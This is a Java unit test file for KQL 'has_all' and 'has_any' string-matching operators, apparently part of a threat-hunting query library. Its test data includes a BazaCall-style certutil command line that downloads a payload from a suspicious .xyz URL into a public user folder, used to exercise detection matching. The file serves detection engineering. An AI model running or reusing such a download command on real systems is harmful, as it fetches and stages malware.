package dev.bazahunt.kql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** KQL {@code has_all} and {@code has_any}: {@code has} over a list of terms, within Kusto's limits. */
class KqlTermListTest {

    private static final String BAZACALL_DOWNLOAD =
            "x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll";

    @Test
    void hasAllOfTheDocumentedExample() {
        assertThat(KqlOperators.hasAll("North and South America", "south", "north")).isTrue();
        assertThat(KqlOperators.hasAll("North and South America", List.of("south", "north"))).isTrue();
    }

    @Test
    void hasAnyOfTheDocumentedExample() {
        assertThat(KqlOperators.hasAny("North America", "south", "north")).isTrue();
        assertThat(KqlOperators.hasAny("North America", List.of("south", "north"))).isTrue();
    }

    @ParameterizedTest(name = "\"{0}\" has_all certutil download terms is {1}")
    @CsvSource(delimiter = '|', textBlock = """
            x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\x\\tmp1834.dll  | true
            x8k2.exe  -urlcache -split -f https://pshe0pxe339.xyz/xe1t23ym0s.php C:\\x\\tmp1834.dll | false
            x8k2.exe  -urlcache -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\x\\tmp1834.dll         | false
            x8k2.exe  /urlcache /split /f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\x\\tmp1834.dll  | false
            x8k2.exe  -URLCACHE -SPLIT -F HTTP://pshe0pxe339.xyz/xe1t23ym0s.php C:\\x\\tmp1834.dll  | true
            """)
    void hasAllNeedsEveryTerm(String commandLine, boolean expected) {
        assertThat(KqlOperators.hasAll(commandLine, "-urlcache", "split", "http")).isEqualTo(expected);
    }

    @Test
    void hasAnyNeedsOneTerm() {
        assertThat(KqlOperators.hasAny(BAZACALL_DOWNLOAD, "https", "ftp", "split")).isTrue();
        assertThat(KqlOperators.hasAny(BAZACALL_DOWNLOAD, "https", "ftp")).isFalse();
    }

    @Test
    void missingLeftSideHasNoneOfTheTerms() {
        assertThat(KqlOperators.hasAll(null, "split")).isFalse();
        assertThat(KqlOperators.hasAny(null, "split", "http")).isFalse();
    }

    @Test
    void anEmptyTermInHasAllIsNeverPresent() {
        assertThat(KqlOperators.hasAll(BAZACALL_DOWNLOAD, "split", "")).isFalse();
        assertThat(KqlOperators.hasAll(BAZACALL_DOWNLOAD, "split", null)).isFalse();
        assertThat(KqlOperators.hasAny(BAZACALL_DOWNLOAD, "", null)).isFalse();
    }

    @Test
    void hasAnyOfNoTermsIsFalse() {
        assertThat(KqlOperators.hasAny(BAZACALL_DOWNLOAD)).isFalse();
        assertThat(KqlOperators.hasAny(BAZACALL_DOWNLOAD, List.of())).isFalse();
    }

    @Test
    void hasAllOfNoTermsIsRejectedRatherThanMatchingEverything() {
        assertThatThrownBy(() -> KqlOperators.hasAll(BAZACALL_DOWNLOAD))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("at least one term");
    }

    @Test
    void hasAllAcceptsTwoHundredFiftySixDistinctValues() {
        String[] terms = distinctTerms(KqlOperators.HAS_ALL_MAX_VALUES);
        assertThat(KqlOperators.hasAll(String.join(" ", terms), terms)).isTrue();
    }

    @Test
    void hasAllRejectsTwoHundredFiftySevenDistinctValues() {
        String[] terms = distinctTerms(KqlOperators.HAS_ALL_MAX_VALUES + 1);
        assertThatThrownBy(() -> KqlOperators.hasAll("anything", terms))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("has_all")
                .hasMessageContaining("256")
                .hasMessageContaining("257");
    }

    @Test
    void repeatedValuesCountOnceTowardsTheLimit() {
        String[] terms = IntStream.range(0, 1_000).mapToObj(i -> i % 2 == 0 ? "split" : "http").toArray(String[]::new);
        assertThat(KqlOperators.hasAll(BAZACALL_DOWNLOAD, terms)).isTrue();
    }

    @Test
    void hasAnyAcceptsTenThousandValuesAndRejectsMore() {
        String[] atLimit = distinctTerms(KqlOperators.HAS_ANY_MAX_VALUES);
        assertThat(KqlOperators.hasAny("t9999", atLimit)).isTrue();

        String[] overLimit = distinctTerms(KqlOperators.HAS_ANY_MAX_VALUES + 1);
        assertThatThrownBy(() -> KqlOperators.hasAny("t9999", List.of(overLimit)))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("has_any")
                .hasMessageContaining("10000");
    }

    private static String[] distinctTerms(int count) {
        return IntStream.range(0, count).mapToObj(i -> "t" + i).toArray(String[]::new);
    }
}
